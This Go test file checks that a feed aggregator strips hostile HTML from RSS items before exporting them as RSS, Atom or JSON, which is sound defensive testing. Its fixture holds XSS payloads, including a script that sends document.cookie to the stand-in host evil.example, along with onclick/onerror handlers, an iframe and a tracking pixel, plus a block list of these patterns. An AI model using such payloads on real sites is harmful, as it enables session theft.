package main

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostileRSS is a feed whose item HTML tries everything a subscriber must
// never receive.
const hostileRSS = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Hostile</title><link>https://hostile.example/</link><description>x</description>
<item>
<title>Council approves the new harbour bridge &lt;script&gt;alert(1)&lt;/script&gt;</title>
<link>https://hostile.example/news/bridge</link>
<guid>https://hostile.example/news/bridge</guid>
<pubDate>Mon, 23 Nov 2026 10:00:00 +0000</pubDate>
<description><![CDATA[<p onclick="steal()">The council voted 30 to 9.<script>document.location='https://evil.example/'+document.cookie</script></p>
<style>body{display:none}</style>
<iframe src="https://evil.example/frame"></iframe>
<a href="javascript:alert(2)">click</a> <a href="/news/bridge-plans">plans</a>
<img src="data:image/png;base64,AAAA" alt="d"><img src="https://tracker.example/p.gif" width="1" height="1">
<img src="/img/bridge.jpg" alt="bridge" onerror="steal()">]]></description>
</item></channel></rss>`

// TestHostileHTMLThroughThePipeline fetches hostile item HTML, stores it,
// and checks every served format carries none of it.
func TestHostileHTMLThroughThePipeline(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, hostileRSS)
	}))
	t.Cleanup(srv.Close)
	dir := t.TempDir()
	cfg := filepath.Join(dir, "feeds.toml")
	os.WriteFile(cfg, []byte(fmt.Sprintf("[storage]\npath = %q\n[fetch]\nhost_delay = \"0s\"\n[[feeds]]\nname = \"hostile\"\nurl = %q\n", filepath.Join(dir, "h.db"), srv.URL+"/feed.xml")), 0o644)
	ctx := t.Context()
	if out, errOut, code := runCmd(t, ctx, "fetch", "--config", cfg); code != 0 || !strings.Contains(out, "new 1") {
		t.Fatalf("fetch: exit %d\n%s\n%s", code, out, errOut)
	}
	for _, format := range []string{"rss", "atom", "json"} {
		out, errOut, code := runCmd(t, ctx, "export", "--config", cfg, "--format", format)
		if code != 0 {
			t.Fatalf("export %s: %s", format, errOut)
		}
		// Decode the XML/JSON escaping so that escaped markup is checked too.
		body := strings.NewReplacer("&lt;", "<", "&gt;", ">", "&#34;", `"`, "&quot;", `"`, "&amp;", "&", `\u003c`, "<", `\u003e`, ">", `\"`, `"`).Replace(out)
		for _, bad := range []string{"<script", "onclick", "onerror", "<style", "<iframe", "javascript:", "data:image", "tracker.example", "document.cookie"} {
			if strings.Contains(strings.ToLower(body), bad) {
				t.Errorf("%s output carries %q", format, bad)
			}
		}
		for _, want := range []string{"https://hostile.example/news/bridge-plans", "https://hostile.example/img/bridge.jpg", "The council voted 30 to 9."} {
			if !strings.Contains(body, want) {
				t.Errorf("%s output lacks %q (relative links made absolute, text kept)", format, want)
			}
		}
	}
}
